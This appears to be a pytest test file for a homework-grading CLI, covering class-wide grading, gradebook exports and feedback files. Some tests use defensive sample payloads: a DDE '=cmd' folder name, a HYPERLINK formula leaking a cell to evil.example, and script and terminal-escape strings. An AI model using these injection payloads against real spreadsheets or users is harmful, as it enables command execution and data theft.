"""A class in one call: files, folders, globs and stdin; gradebooks (CSV, JSON, JUnit); feedback files;
references held back from students."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from dlcheck.cli import app

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"

RIGHT = 'set: backprop\nstudent: "{sid}"\nanswers:\n  q3:\n    more_expressive: 2\n'
BROKEN = "set: backprop\nanswers:\n  q1:\n    out_h1: [0.5945, 0.5963\n"


@pytest.fixture
def klass(tmp_path):
    """A folder of four students: two with answers, one broken, one hidden backup; and a subfolder."""
    subs = tmp_path / "subs"
    (subs / "late").mkdir(parents=True)
    (subs / "a.yaml").write_text(RIGHT.format(sid="1"), encoding="utf-8")
    (subs / "b.yaml").write_text((EXAMPLES / "rnn.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    (subs / "c.yaml").write_text(BROKEN, encoding="utf-8")
    (subs / ".backup.yaml").write_text(BROKEN, encoding="utf-8")
    (subs / "late" / "d.yml").write_text(RIGHT.format(sid="4"), encoding="utf-8")
    (subs / "notes.txt").write_text("not answers", encoding="utf-8")
    return subs


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_folder_is_a_class_and_a_broken_file_is_a_row(runner, klass):
    result = runner.invoke(app, ["grade", str(klass), "--format", "csv"])
    assert result.exit_code == 2  # a file could not be read; the others are graded
    rows = _rows(result.stdout)
    assert rows[0]["student"] == "Points Possible"
    files = [Path(r["file"]).name for r in rows[1:]]
    assert files == ["a.yaml", "b.yaml", "c.yaml", "d.yml"]  # sorted, hidden ones and other files skipped
    broken = rows[3]
    assert "this '[' is never closed" in broken["error"] and broken["score"] == ""
    assert rows[1]["student"] == "1" and rows[1]["backprop/q3/more_expressive"] == "1"


def test_csv_sums_match_the_json(runner, klass):
    rows = _rows(runner.invoke(app, ["grade", str(klass), "--format", "csv"]).stdout)
    docs = json.loads(runner.invoke(app, ["grade", str(klass), "--format", "json"]).stdout)
    assert isinstance(docs, list) and len(docs) == len(rows) - 1
    parts = [c for c in rows[0] if c.count("/") == 2]
    possible = rows[0]
    assert float(possible["score"]) == sum(float(possible[c]) for c in parts)
    for row, doc in zip(rows[1:], docs):
        assert Path(row["file"]).name == Path(doc["file"]).name
        if "error" in doc:
            assert row["error"] and row["score"] == ""
            continue
        assert float(row["score"]) == pytest.approx(doc["score"], abs=1e-6)
        assert float(row["score"]) == pytest.approx(sum(float(row[c] or 0) for c in parts), abs=1e-5)


def test_globs_and_several_files_and_stdin(runner, klass):
    pattern = str(klass / "**" / "*.y*ml")
    rows = _rows(runner.invoke(app, ["grade", pattern, "--format", "csv"]).stdout)
    assert sorted(Path(r["file"]).name for r in rows[1:]) == ["a.yaml", "b.yaml", "c.yaml", "d.yml"]
    two = _rows(runner.invoke(app, ["grade", str(klass / "a.yaml"), str(klass / "b.yaml"), "--format",
                                    "csv"]).stdout)
    assert [Path(r["file"]).name for r in two[1:]] == ["a.yaml", "b.yaml"]
    piped = runner.invoke(app, ["grade", "-", "--format", "json"], input=RIGHT.format(sid="9"))
    doc = json.loads(piped.stdout)
    assert doc["file"] == "<stdin>" and doc["student"] == "9" and piped.exit_code == 0
    bad = runner.invoke(app, ["grade", "-"], input=BROKEN)
    assert bad.exit_code == 2 and "<stdin>:4:13" in bad.output
    none = runner.invoke(app, ["grade", str(klass / "*.json")])
    assert none.exit_code == 2 and "no file matches this pattern" in none.output


def test_one_file_is_graded_as_before(runner):
    result = runner.invoke(app, ["grade", str(EXAMPLES / "answers.yaml"), "--format", "json"])
    doc = json.loads(result.stdout)
    assert isinstance(doc, dict) and doc["problems"][0]["id"] == "backprop/q1"


def test_the_table_of_a_class_ends_with_one_line_per_file(runner, klass):
    out = runner.invoke(app, ["grade", str(klass)], env={"COLUMNS": "120"}).output
    assert "backprop/q3 — " in out and "rnn/q2 — " in out          # each file's own report
    assert "4 files" in out and "could not be read" in out          # then the class
    assert out.count("Score:") == 3


def test_junit_is_a_suite_per_file_and_a_case_per_part(runner, klass):
    out = runner.invoke(app, ["grade", str(klass), "--format", "junit"]).stdout
    root = ET.fromstring(out)
    suites = root.findall("testsuite")
    assert [Path(s.get("name")).name for s in suites] == ["a.yaml", "b.yaml", "c.yaml", "d.yml"]
    rnn = suites[1]
    cases = rnn.findall("testcase")
    assert len(cases) == int(rnn.get("tests")) == 3 + 6 + 5 + 5  # + backprop/q3, which another answered
    failed = [c for c in cases if c.find("failure") is not None]
    assert int(rnn.get("failures")) == len(failed) > 0
    transposed = next(c for c in cases if c.get("name") == "dJ3_dWhh")
    assert "transpose" in transposed.find("failure").get("message")
    assert suites[2].find("testcase/error") is not None           # the broken file
    assert int(root.get("tests")) == sum(int(s.get("tests")) for s in suites)


def test_feedback_files_say_what_the_terminal_says(runner, klass, tmp_path):
    folder = tmp_path / "feedback"
    result = runner.invoke(app, ["grade", str(klass), "--feedback-dir", str(folder)], env={"COLUMNS": "120"})
    written = sorted(p.name for p in folder.iterdir())
    assert written == ["1.md", "4.md", "b.md", "c.md"]   # the student id, else the file's name
    rnn = (folder / "b.md").read_text(encoding="utf-8")
    terminal = result.output
    for said in ("your matrix is the transpose of the expected one", "1 of 4 entries differ: entry 1",
                 "Score: 8 / 18 (44%)"):   # out of the class's problems: backprop/q3 not answered
        assert said in terminal and said in rnn.replace("\\", "")
    assert "| dJ3\\_dWhh |" in rnn and "`[[-0.3631, 1.7117], [-0.3631, 0.7780]]`" in rnn
    assert "could not be graded" in (folder / "c.md").read_text(encoding="utf-8")


def test_student_text_in_a_feedback_file_stays_text(runner, tmp_path):
    path = tmp_path / "evil.yaml"
    path.write_text('set: rnn\nanswers:\n  q2:\n    J: "<script>x</script> | [a](http://x) `` \\e[2J"\n',
                    encoding="utf-8")
    runner.invoke(app, ["grade", str(path), "--feedback-dir", str(tmp_path / "fb")])
    md = (tmp_path / "fb" / "evil.md").read_text(encoding="utf-8")
    assert "\x1b" not in md and "\\x1b[2J" in md
    row = next(line for line in md.splitlines() if line.startswith("| J |"))
    assert row.count(" | ") == 4  # the student's pipe did not add a column
    assert "```<script>x</script> \\| [a](http://x) `` \\x1b[2J```" in row   # all of it in one code span
    assert "unexpected character '\\<'" in row                              # escaped in plain text


def test_hide_expected_keeps_references_from_students_but_not_from_the_gradebook(runner, tmp_path):
    path = tmp_path / "a.yaml"
    path.write_text("set: backprop\nanswers:\n  q1:\n    loss: 0.2983\n    out_h1: idk\n", encoding="utf-8")
    shown = runner.invoke(app, ["grade", str(path)], env={"COLUMNS": "120"}).output
    assert "0.323394" in shown and "off by 0.0251" in shown
    hidden = runner.invoke(app, ["grade", str(path), "--hide-expected"], env={"COLUMNS": "120"}).output
    assert "0.323394" not in hidden and "off by" not in hidden and "not within the tolerance" in hidden
    doc = json.loads(runner.invoke(app, ["grade", str(path), "--hide-expected", "--format", "json"]).stdout)
    loss = next(p for p in doc["problems"][0]["parts"] if p["id"] == "loss")
    assert "0.323394" not in json.dumps(doc) and "off by" not in loss["message"]  # JSON reaches students too
    doc = json.loads(runner.invoke(app, ["grade", str(path), "--hide-expected", "--format", "json",
                                         "--instructor"]).stdout)
    loss = next(p for p in doc["problems"][0]["parts"] if p["id"] == "loss")
    assert loss["expected"] == "0.323394"  # the instructor's view keeps everything
    instructor = runner.invoke(app, ["grade", str(path), "--hide-expected", "--instructor"],
                               env={"COLUMNS": "120"}).output
    assert "0.323394" in instructor


def test_hidden_references_still_name_mistakes_of_method_and_carried_parts(runner):
    """A sign error, the update not applied and a carried part keep their sentences; a transpose (which
    turns the answer into the reference) and every "off by" do not."""
    hidden = runner.invoke(app, ["grade", str(EXAMPLES / "answers.yaml"), "--hide-expected"],
                           env={"COLUMNS": "200"}).output
    row = {line.split("│")[1].strip(): line for line in hidden.splitlines() if line.count("│") > 4}
    assert "Sign error" in row["dE_dw5"] and "before the update" in row["w1_new"]
    assert "carried" in row["w5_new"] and "right on your value" in row["w5_new"]
    assert "not within the tolerance" in row["loss"] and "off by" not in hidden
    rnn = runner.invoke(app, ["grade", str(EXAMPLES / "rnn.yaml"), "--hide-expected"], env={"COLUMNS": "200"}).output
    assert "transpose" not in rnn
    shown = runner.invoke(app, ["grade", str(EXAMPLES / "rnn.yaml")], env={"COLUMNS": "200"}).output
    assert "transpose" in shown


def test_reveal_after_attempt_waits_for_a_real_attempt(runner, tmp_path, monkeypatch):
    bank = tmp_path / "bank" / "course"
    bank.mkdir(parents=True)
    (bank / "q1.yaml").write_text("""\
title: Reveal
statement: x = 2.
given: {x: 2}
reveal: after_attempt
parts:
  a: {kind: number, prompt: x squared, answer: x^2, hints: [square it]}
  b: {kind: number, prompt: x cubed, answer: x^3, reveal: never, hints: [cube it]}
  c: {kind: number, prompt: x plus one, answer: x + 1, reveal: always}
""", encoding="utf-8")
    path = tmp_path / "a.yaml"
    path.write_text("set: course\nanswers:\n  q1:\n    a: idk\n    b: 9\n    c: 5\n", encoding="utf-8")
    folder = tmp_path / "fb"
    runner.invoke(app, ["grade", str(path), "--problems", str(tmp_path / "bank"), "--feedback-dir", str(folder)])
    md = (folder / "a.md").read_text(encoding="utf-8")
    rows = {line.split(" | ")[0][2:]: line for line in md.splitlines() if line.startswith("| ")}
    assert "`4`" not in rows["a"]      # idk is no attempt: no reference, no hint
    assert "`8`" not in rows["b"] and "cube it" not in md   # never
    assert "`3`" in rows["c"]          # always


@pytest.mark.skipif(sys.platform == "win32", reason="a terminal's progress bar")
def test_progress_bar_only_on_a_terminal(tmp_path, klass):
    for k in range(8):
        (klass / f"more{k}.yaml").write_text(RIGHT.format(sid=k), encoding="utf-8")
    piped = subprocess.run([sys.executable, "-m", "dlcheck", "grade", str(klass), "--format", "csv"],
                           capture_output=True, text=True, timeout=600, cwd=ROOT)
    assert "grading" not in piped.stderr and "━" not in piped.stderr
    assert len(_rows(piped.stdout)) == 1 + 12


def test_the_class_table_keeps_each_file_name_and_score_on_one_line(runner, tmp_path, monkeypatch):
    """At 80 columns the parts column wraps, never a file name or a score; no student column when no
    file has an id."""
    subs = tmp_path / "class-of-2026"
    subs.mkdir()
    for path in sorted(EXAMPLES.glob("*.yaml")):
        (subs / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    monkeypatch.chdir(tmp_path)

    def table() -> list[str]:
        out = runner.invoke(app, ["grade", subs.name], env={"COLUMNS": "80"}).output.splitlines()
        return out[max(k for k, line in enumerate(out) if line.startswith("6 files")):]

    lines = table()
    assert "student" not in lines[2] and all(len(line) <= 80 for line in lines)
    for path in sorted(EXAMPLES.glob("*.yaml")):
        row = next(line for line in lines if f"{subs.name}/{path.name}" in line)
        assert re.search(r"\d+ / \d+ │ +\d+% │", row), row
    with_id = subs / "answers.yaml"
    with_id.write_text('student: "7"\n' + with_id.read_text(encoding="utf-8"), encoding="utf-8")
    assert "student" in table()[2]


# -- the gradebook as a TA opens it ---------------------------------------------------------------
def test_no_cell_of_student_text_is_a_formula_in_a_spreadsheet(runner, tmp_path, monkeypatch):
    """OWASP "CSV injection": a cell starting with = + - @ tab or CR is text (a leading '), in the
    student, file and error columns; the numbers stay numbers."""
    monkeypatch.chdir(tmp_path)
    folder = Path("=cmd|' calc'!A0")
    folder.mkdir()
    ids = ["=HYPERLINK('http://evil.example/?'&A1,'click')", "+1+2", "@SUM(1+1)", "-2+3", "\\tTAB"]
    for k, sid in enumerate(ids):
        (folder / f"s{k}.yaml").write_text(RIGHT.format(sid=sid), encoding="utf-8")
    (folder / "z.yaml").write_text(BROKEN, encoding="utf-8")
    rows = _rows(runner.invoke(app, ["grade", str(folder), "--format", "csv"]).stdout)
    students = [r["student"] for r in rows[1:-1]]
    assert students == ["'" + sid.replace("\\t", "\t") for sid in ids]     # YAML's \t is a tab
    for row in rows[1:]:
        assert row["file"].startswith("'=cmd"), row["file"]
    assert rows[-1]["error"].startswith("'=cmd") and "never closed" in rows[-1]["error"]
    for row in rows:
        for key in [c for c in row if c.count("/") == 2] + ["score", "max_score", "percentage"]:
            assert row[key] == "" or float(row[key]) >= 0, (key, row[key])   # a number, not "'1"


def test_each_row_is_marked_out_of_the_class_problems_as_in_the_json(runner, tmp_path):
    """A student who answered one problem of four: the CSV's max_score and percentage are the JSON's
    max_score and the terminal's percentage, and every row is out of the Points Possible (issue 18: a
    skipped problem lowers the percentage, never raises it)."""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "all.yaml").write_text((EXAMPLES / "rnn.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    (subs / "one.yaml").write_text(RIGHT.format(sid="7"), encoding="utf-8")
    rows = _rows(runner.invoke(app, ["grade", str(subs), "--format", "csv"]).stdout)
    docs = json.loads(runner.invoke(app, ["grade", str(subs), "--format", "json"]).stdout)
    table = runner.invoke(app, ["grade", str(subs)], env={"COLUMNS": "160"}).output
    possible = rows[0]
    assert float(possible["max_score"]) == sum(float(possible[c]) for c in possible if c.count("/") == 2)
    for row, doc in zip(rows[1:], docs):
        assert float(row["max_score"]) == doc["max_score"]
        checked = doc["max_score"] - doc["awaiting_marker"]
        assert float(row["percentage"]) == pytest.approx(round(100 * doc["score"] / checked, 2))
        assert f"{float(row['percentage']):.0f}%" in table
    assert all(row["max_score"] == possible["max_score"] == "19" for row in rows[1:])
    assert rows[2]["score"] == "1" and rows[2]["percentage"] == "5.26"       # 1 of 19, not 1 of 5


def test_quiet_reports_of_a_class_say_whose_they_are(runner, klass):
    out = runner.invoke(app, ["grade", str(klass), "-q"], env={"COLUMNS": "300"}).output
    blocks = out.split("\n\n")
    heads = [line for line in out.splitlines() if line.endswith((".yaml", ".yml")) or " — student " in line]
    assert heads == [f"{klass / 'a.yaml'} — student 1", str(klass / "b.yaml"),
                     f"{klass / 'late' / 'd.yml'} — student 4"]
    rnn = next(b for b in blocks if b.startswith(str(klass / "b.yaml")))
    assert "To fix (" in rnn   # the block under the name is that file's


def test_a_readable_file_that_cannot_be_graded_keeps_its_student(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    subs = Path("subs")
    subs.mkdir()
    (subs / "unknown.yaml").write_text('set: backprop\nstudent: "unk"\nanswers:\n  q9:\n    a: 1\n', encoding="utf-8")
    (subs / "good.yaml").write_text(RIGHT.format(sid="1"), encoding="utf-8")
    rows = _rows(runner.invoke(app, ["grade", str(subs), "--format", "csv"]).stdout)
    assert rows[2]["student"] == "unk" and "no problem 'q9'" in rows[2]["error"]
    docs = json.loads(runner.invoke(app, ["grade", str(subs), "--format", "json"]).stdout)
    assert docs[1]["student"] == "unk" and "error" in docs[1]
    out = runner.invoke(app, ["grade", str(subs), "--feedback-dir", str(tmp_path / "fb")],
                        env={"COLUMNS": "120"}).output
    row = next(line for line in out.splitlines() if "unknown.yaml" in line and "│" in line)
    assert "│ unk " in row and "line 4:3: backprop has no problem 'q9'" in out
    assert sorted(p.name for p in (tmp_path / "fb").iterdir()) == ["1.md", "unk.md"]


def test_a_glob_or_folder_with_nothing_among_others_is_a_warning_not_a_stop(runner, klass, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("late-work").mkdir()
    result = runner.invoke(app, ["grade", "nomatch*.yaml", "late-work", str(klass / "a.yaml"), "--format", "csv"])
    assert result.exit_code == 0, result.output     # a.yaml is right; nothing else was named
    rows = _rows(result.stdout)
    assert [r["student"] for r in rows] == ["Points Possible", "1"]
    said = " ".join(result.stderr.split())
    assert "warning: nomatch*.yaml: no file matches this pattern" in said
    assert "warning: late-work: no *.yaml answers file in this folder" in said
    alone = runner.invoke(app, ["grade", "late-work"])
    assert alone.exit_code == 2 and "no *.yaml answers file" in alone.output
    both = runner.invoke(app, ["grade", "late-work", "nomatch*.yaml"])
    assert both.exit_code == 2 and "no answers file in any of these" in both.output


def test_long_student_ids_fold_in_the_class_table(runner, tmp_path, monkeypatch):
    """Two long ids stay whole and tell the rows apart; the table stays inside 80 columns beside a
    file name of 23 characters (rich once narrowed, then restored, the file column and cropped it)."""
    monkeypatch.chdir(tmp_path)
    subs = Path("subs")
    subs.mkdir()
    ids = [f"student-with-a-rather-long-identifier-{k}@university.example.edu" for k in (1, 2)]
    for k, sid in enumerate(ids):
        (subs / f"s{k}.yaml").write_text(RIGHT.format(sid=sid), encoding="utf-8")
    (subs / "rnn-gradients.yaml").write_text((EXAMPLES / "rnn-gradients.yaml").read_text(encoding="utf-8"),
                                             encoding="utf-8")
    out = runner.invoke(app, ["grade", str(subs)], env={"COLUMNS": "80"}).output
    lines = out.splitlines()[max(k for k, line in enumerate(out.splitlines()) if line.startswith("3 files")) + 1:]
    lines = lines[:next(k for k, line in enumerate(lines) if line.startswith("└")) + 1]  # the class summary follows
    assert lines[0].endswith("┓") and lines[-1].endswith("┘") and all(len(line) <= 80 for line in lines)
    cells = [line.split("│")[2].strip() for line in lines if line.startswith("│")]
    assert "…" not in out and "".join(cells) == "".join(ids)
    assert any("subs/rnn-gradients.yaml │" in line and re.search(r"\d+ / \d+ │", line) for line in lines)


def test_two_files_of_one_student_are_named_once_and_their_feedback_names_do_not_depend_on_order(
        runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("a").mkdir()
    Path("b").mkdir()
    first, late = Path("a", "s42.yaml"), Path("b", "s42-late.yaml")
    first.write_text(RIGHT.format(sid="42"), encoding="utf-8")
    late.write_text(RIGHT.format(sid="42").replace("more_expressive: 2", "more_expressive: 1"), encoding="utf-8")
    reports = []
    for order in ((first, late), (late, first)):
        folder = tmp_path / f"fb{len(reports)}"
        result = runner.invoke(app, ["grade", *map(str, order), "--feedback-dir", str(folder)],
                               env={"COLUMNS": "80"})
        said = " ".join(result.stderr.split())       # wrapped between words at 80 columns
        assert said.count("warning:") == 1, said
        assert f"warning: student 42 is named by 2 files, {first} and {late};" in said
        reports.append({p.name: p.read_text(encoding="utf-8") for p in folder.iterdir()})
    assert reports[0] == reports[1] and sorted(reports[0]) == ["42-2.md", "42.md"]
    assert str(first) in reports[0]["42.md"]          # the first by path is 42.md
